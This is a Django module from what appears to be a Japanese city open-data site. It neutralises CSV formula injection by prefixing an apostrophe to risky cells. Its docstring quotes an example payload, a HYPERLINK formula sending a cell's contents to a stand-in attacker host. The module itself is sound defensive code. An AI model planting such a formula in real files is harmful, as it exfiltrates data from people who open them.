"""Downloads: the one CSV writer every export goes through, and its JSON twin.

City offices open CSV files in Excel, which runs a cell that starts with `=`, `+`, `-` or `@`
as a formula (after stripping a leading tab or carriage return): a proposal titled
`=HYPERLINK("https://evil.example/?"&A1;"詳細")` in the public open data would run in every
spreadsheet that opens it. So every text cell that starts so is written with a leading
apostrophe, which spreadsheets show as plain text; numbers stay numbers. The full-width forms
(＝＋－＠) are treated the same, since Japanese spreadsheets may read them as formulas too."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Sequence
from typing import Any

from django.core.serializers.json import DjangoJSONEncoder
from django.http import HttpResponse

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralise(value: Any) -> Any:
    """The value as a spreadsheet must show it: a text that would start a formula gets a
    leading apostrophe; anything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _attachment(response: HttpResponse, filename: str) -> HttpResponse:
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> HttpResponse:
    """A CSV download: UTF-8 with a BOM (so Excel, which most city offices use, reads Japanese),
    every cell neutralised."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response.write("\ufeff")
    writer = csv.writer(response)
    writer.writerow([neutralise(cell) for cell in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return _attachment(response, filename)


def table_response(rows: list[dict], columns: list[str], fmt: str, name: str, extra: dict | None = None) -> HttpResponse:
    """Rows of a dataset as `name.csv` (the columns in order) or `name.json` (the rows as
    objects, after `extra` fields such as the fiscal year)."""
    if fmt == "json":
        body = json.dumps({**(extra or {}), "columns": columns, "rows": rows}, ensure_ascii=False,
                          cls=DjangoJSONEncoder, indent=1)
        return _attachment(HttpResponse(body, content_type="application/json; charset=utf-8"), f"{name}.json")
    return csv_response(f"{name}.csv", columns, ([row.get(c, "") for c in columns] for row in rows))
